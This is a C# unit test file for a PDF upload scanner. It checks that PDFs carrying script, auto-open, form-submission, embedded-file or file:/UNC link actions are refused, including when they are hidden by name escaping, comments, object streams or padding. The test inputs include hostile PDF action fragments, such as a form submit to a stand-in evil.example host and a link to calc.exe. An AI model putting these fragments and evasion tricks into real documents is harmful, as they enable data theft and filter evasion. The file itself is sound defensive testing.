using System.Text;
using WorkOrders.Files;
using static WorkOrders.Tests.Files.HarmfulFileTests;

namespace WorkOrders.Tests.Files;

/// <summary>Actions of a PDF, and the places where they can be hidden.</summary>
public sealed class HarmfulPdfTests
{
    [Theory]
    [InlineData("/AcroForm<</XFA 4 0 R/Fields[]>>", "/XFA")]
    [InlineData("/AcroForm<</X#46A[(a)4 0 R]>>", "/XFA")]
    [InlineData("/A<</S/SubmitForm/F(http://evil.example/x)>>", "/SubmitForm")]
    [InlineData("/A<</S/ImportData/F(x.fdf)>>", "/ImportData")]
    [InlineData("/A<</S/GoToR/F(x.pdf)>>", "/GoToR")]
    [InlineData("/A<</S/GoTo#45/F(x.pdf)>>", "/GoToE")]
    [InlineData("/Subtype/RichMedia", "/RichMedia")]
    [InlineData("/OpenAction<</S/URI/URI(https://evil.example/)>>", "/OpenAction")]
    [InlineData("/OpenAction<</S/Rendition/JS(app.alert(1))>>", "/OpenAction")]
    [InlineData("/OpenAction<</S/SubmitForm/F(http://evil.example/x)>>", "/SubmitForm")]
    [InlineData("/Open#41ction % why\n<</S/Named/N/Print>>", "/OpenAction")]
    [InlineData("/AA<</WC 5 0 R>>", "/AA")]
    [InlineData("/AA 5 % why\n0 R", "/AA")]
    [InlineData("/S/URI/URI(file:///c:/windows/system32/calc.exe)", "/URI")]
    [InlineData("/S/URI/URI(\\146il\\\ne:///c:/x.exe)", "/URI")]
    [InlineData("/S/URI/URI<66696C653A2F2F2F633A2F78>", "/URI")]
    [InlineData("/S/URI/URI<FEFF00660069006C0065003A>", "/URI")]
    [InlineData("/S/URI/URI(\\\\\\\\evil.example\\\\share)", "/URI")]
    [InlineData("/S/URI/URI(c:\\\\x.exe)", "/URI")]
    [InlineData("/S/URI/URI(search-ms:query=x)", "/URI")]
    [InlineData("/S/URI/URI 7 0 R", "/URI")]
    public void An_action_that_can_hurt_is_named(string inside, string named)
    {
        RefusedFor(Pdf($"4 0 obj<<{inside}>>endobj\n"), InPdf, named);
        RefusedFor(Pdf(ObjectStream($"4 0 <<{inside}>>")), InPdf, named);
        RefusedFor(Pdf(ObjectStream($"4 0 {new string(' ', 65_520)}<<{inside}>>")), InPdf, named);
    }

    [Theory]
    [InlineData("/X<</S/Rendition/JS(app.alert(1))>>", "/JS")]
    [InlineData("/X<</S/Rendition/J#53 % why\n<6170702e>>>", "/JS")]
    [InlineData("/X<</S/Rendition/JS 7 0 R>>", "/JS")]
    [InlineData("/AF[<</EF<</F 5 0 R>>>>]", "/EF")]
    [InlineData("/AF[<</EF 5 0 R>>]", "/EF")]
    [InlineData("/AA<</WC 5 0 R>>", "/AA")]
    public void An_action_is_found_where_a_comment_or_a_text_looks_like_the_beginning_of_data(string inside, string named)
    {
        RefusedFor(Pdf($"4 0 obj<</A 1 %>> stream\n{inside} %endstream\n>>endobj\n"), InPdf, named);
        RefusedFor(Pdf($"4 0 obj<</A (>>stream\n)/B 1{inside}/C(endstream)>>endobj\n"), InPdf, named);
        RefusedFor(Pdf($"4 0 obj<</Length 99>>stream\n5 0 obj<<{inside}>>endobj\nendstream endobj\n"), InPdf, named);
    }

    [Fact]
    public void When_the_budget_is_used_up_the_objects_behind_it_are_refused()
    {
        var decoy = ObjectStream("1 0 " + new string(' ', 70 * 1024 * 1024), "/N 1/First 4/Filter/FlateDecode");
        var hidden = ObjectStream("4 0 <</S/JavaScript>>", "/Type 5 0 R/N 1/First 4/Filter/FlateDecode");
        RefusedFor(Pdf([.. decoy, .. hidden, .. "5 0 obj/Obj#53tm endobj\n"u8]), ClosedPdf);
    }

    [Theory]
    [InlineData("%4 0\n4 0 ")]
    [InlineData("4%\n0 ")]
    [InlineData("+4 0 ")]
    public void Objects_without_a_type_are_found_behind_signs_that_readers_pass(string beginning)
    {
        RefusedFor(Pdf(ObjectStream(beginning + "<</S/JavaScript>>", "/N 1/First 4/Filter/FlateDecode")), InPdf, "/JavaScript");
        RefusedFor(Pdf(ObjectStream(new string(' ', 3000) + beginning + "<</S/JavaScript>>", "/N 1/First 4/Filter/FlateDecode")), InPdf, "/JavaScript");
    }

    [Theory]
    [InlineData("/Type 5 0 R/N 1/First 4/Filter/ASCIIHexDecode")]
    [InlineData("/Type 5 0 R/N 1/First 4/Filter/A#385")]
    [InlineData("/Type 5 0 R/N 1/First 4/Filter[/FlateDecode/FlateDecode]")]
    [InlineData("/Type 5 0 R/N 1/First 4/Filter/FlateDecode/DecodeParms<</Predictor 12>>")]
    public void Objects_without_a_type_that_cannot_be_looked_into_are_refused(string dictionary) =>
        RefusedFor(Pdf(ObjectStream("4 0 <</S/JavaScript>>", dictionary)), ClosedPdf);

    [Theory]
    [InlineData("/AcroForm<</Fields[5 0 R]/DA(/Helv 0 Tf)>>")]
    [InlineData("/OpenAction[3 0 R/Fit]")]
    [InlineData("/OpenAction<</D[3 0 R/XYZ null null 0]/S/GoTo>>")]
    [InlineData("/OpenAction 5 0 R")]
    [InlineData("/S/URI/URI(https://example.com/a(b)c)")]
    [InlineData("/S/URI/URI(HTTP://example.com)")]
    [InlineData("/S/URI/URI(mailto:a@example.com)")]
    [InlineData("/S/URI/URI(www.example.com/x:y)")]
    [InlineData("/S/URI/URI<68747470733A2F2F612E62>")]
    [InlineData("/URI<</Base(https://example.com)>>")]
    [InlineData("/FT/Tx/T(name)/V(a)/AP<</N 7 0 R>>/MK<<>>")]
    public void Forms_without_scripts_and_links_are_no_harm(string inside)
    {
        Assert.Equal(FileKind.Pdf, Read(Pdf($"4 0 obj<<{inside}>>endobj\n")).Kind);
        Assert.Equal(FileKind.Pdf, Read(Pdf(ObjectStream($"4 0 <<{inside}>>"))).Kind);
        for (var spaces = 65_536 - 200; spaces < 65_536; spaces += 13)
        {
            Assert.Equal(FileKind.Pdf, Read(Pdf(ObjectStream($"4 0 {new string(' ', spaces)}<<{inside}>>"))).Kind);
        }
    }

    [Theory]
    [InlineData("\x01\x02/JS\x03/EF\x04/AA\x05/URI")]
    [InlineData("/JS)/EF(/AA[/JS(\x02")]
    public void Three_bytes_in_the_data_of_a_picture_are_no_harm(string data) => Assert.Equal(
        FileKind.Pdf,
        Read(Pdf([.. "4 0 obj<</Length 9>>stream\n"u8, .. Encoding.Latin1.GetBytes(data), .. "\nendstream endobj\n"u8])).Kind);

    [Fact]
    public void A_value_farther_away_than_anybody_writes_it_is_as_good_as_hidden()
    {
        var file = Encoding.ASCII.GetBytes("%PDF-1.7\n" + string.Concat(Enumerable.Repeat("/URI%", 2_000_000)) + "\n%%EOF");
        RefusedFor(file, InPdf, "/URI");
    }
}
